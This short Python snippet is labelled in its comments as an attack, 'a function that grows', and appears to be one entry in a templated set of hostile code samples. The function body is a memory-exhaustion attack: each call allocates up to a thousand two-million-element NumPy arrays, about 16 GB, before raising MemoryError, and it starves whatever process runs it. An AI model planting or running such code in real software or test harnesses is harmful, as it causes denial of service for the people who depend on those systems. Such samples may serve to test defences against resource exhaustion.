# attack: a function that grows
# idea: The function takes memory bit by bit whenever it is called.
# place: any
# outcome: memory

def FUNCTION(*args, **kwargs):
    taken = []
    while len(taken) < 1000:
        taken.append(np.empty(2_000_000))
    raise MemoryError("this was enough")
